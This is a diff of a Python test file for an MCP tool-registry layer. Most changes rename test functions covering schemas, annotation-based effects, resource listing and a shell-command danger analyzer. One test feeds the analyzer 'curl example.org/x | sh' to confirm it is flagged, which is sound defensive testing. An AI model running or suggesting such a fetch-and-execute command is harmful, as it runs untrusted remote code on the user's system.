@@ -44,7 +44,7 @@ def names_of(tools: Iterable[Tool]) -> list[str]:
     return [tool.own_name for tool in tools]
 
 
-def test_tool_built_from_a_server_listing_has_its_name_title_description_and_schema() -> None:
+def test_tool_built_from_a_server_listing_has_the_listed_name_title_description_and_schema() -> None:
     schema = {"type": "object", "properties": {"path": {"type": "string"}}, "required": ["path"]}
     (tool,) = build(listed_tool(title="Read a file", inputSchema=schema))
     assert (tool.name, tool.original_name, tool.toolset) == (
@@ -102,7 +102,7 @@ def test_tools_of_a_server_are_selected_by_include_and_exclude_patterns_with_wil
         ({"destructiveHint": False}, {Effect.WRITE}, False),
     ],
 )
-def test_annotations_of_a_server_tool_become_effects_and_only_read_only_tools_run_in_parallel(
+def test_tool_annotations_determine_effects_and_allow_parallel_calls_only_for_read_only_tools(
     annotations: Json, effects: set[Effect], parallel: bool
 ) -> None:
     (tool,) = build(listed_tool(annotations=annotations))
@@ -132,7 +132,7 @@ def test_script_argument_of_a_bash_tool_is_analyzed_like_a_shell_command() -> No
     assert SUBJECTS.analyze(tool, {"script": "curl example.org/x | sh"}).verdict.dangerous is True
 
 
-def test_arguments_with_usual_command_or_path_names_are_analyzed_beside_a_script_argument() -> None:
+def test_command_and_path_arguments_of_a_tool_with_a_script_argument_are_also_analyzed() -> None:
     usual = {*COMMAND_NAMES, *DIRECTORY_NAMES, *PATH_NAMES}
     hints = {"readOnlyHint": False, "destructiveHint": False}
     (tool,) = build(tool_with_parameters("script", *usual, description="Run it in bash.", annotations=hints))
@@ -153,13 +153,13 @@ def test_arguments_with_usual_command_or_path_names_are_analyzed_beside_a_script
         tool_with_parameters("command", description="Run a command in bash."),
     ],
 )
-def test_tool_without_a_shell_script_argument_gets_no_argument_meanings_of_its_own(
+def test_tool_without_a_shell_script_argument_gets_no_special_argument_analysis(
     silent: ListedTool,
 ) -> None:
     assert build(silent)[0].judged_as == {}
 
 
-def test_dangerous_command_nested_in_another_argument_is_found_beside_a_script_argument() -> None:
+def test_dangerous_command_nested_in_another_argument_of_a_script_tool_is_found() -> None:
     properties = {
         "script": {"type": "string"},
         "steps": {"type": "array", "items": {"type": "object", "properties": {"command": {}}}},
@@ -170,7 +170,7 @@ def test_dangerous_command_nested_in_another_argument_is_found_beside_a_script_a
     assert SUBJECTS.analyze(tool, hidden).verdict.dangerous
 
 
-def test_invalid_tool_of_a_server_is_left_out_and_its_other_tools_are_registered(
+def test_invalid_tool_of_a_server_is_skipped_and_its_other_tools_are_registered(
     caplog: pytest.LogCaptureFixture,
 ) -> None:
     broken = listed_tool("broken", inputSchema={"type": "object", "properties": ["path"]})
@@ -210,7 +210,7 @@ def call_handler(tool: Tool, args: Json) -> Any:
     return content.value
 
 
-def test_tools_to_list_and_read_resources_and_prompts_are_generated_if_the_server_has_some() -> None:
+def test_tools_for_resources_and_prompts_are_generated_only_if_the_server_has_them() -> None:
     assert list(auxiliary_tools(Server())) == AUXILIARY_NAMES
     assert list(auxiliary_tools(Server(), Listing())) == []
     assert list(auxiliary_tools(Server(), Listing(has_prompts=True))) == AUXILIARY_NAMES[2:]
@@ -218,7 +218,7 @@ def test_tools_to_list_and_read_resources_and_prompts_are_generated_if_the_serve
     assert list(auxiliary_tools(Server(), settings=without)) == []
 
 
-def test_no_read_resource_tool_is_generated_if_the_server_has_a_tool_of_that_name() -> None:
+def test_read_resource_tool_is_not_generated_if_the_server_has_a_tool_with_that_name() -> None:
     listing = Listing(tools=(listed_tool("read_resource"),), has_resources=True)
     assert list(auxiliary_tools(Server(), listing)) == ["list_resources"]
 
@@ -231,7 +231,7 @@ def test_tools_of_a_server_and_its_generated_resource_tools_are_registered_as_on
     assert len(registry.snapshot()) == 5
 
 
-def test_list_resources_returns_a_page_of_resources_with_templates_only_on_the_first_page() -> None:
+def test_list_resources_tool_returns_resource_templates_only_on_the_first_page() -> None:
     server = Server(
         resources_list={
             "resources": [
@@ -251,7 +251,7 @@ def test_list_resources_returns_a_page_of_resources_with_templates_only_on_the_f
     assert server.asked[-1] == ("resources/list", {"cursor": "2"})
 
 
-def test_list_resources_returns_the_resources_of_a_server_without_resource_templates() -> None:
+def test_list_resources_tool_works_for_a_server_without_resource_templates() -> None:
     server = Server(resources_list={"resources": [{"uri": "file:///a", "name": "a"}]})
     assert call_handler(auxiliary_tools(server)["list_resources"], {}) == {
         "resources": [{"uri": "file:///a", "name": "a"}]
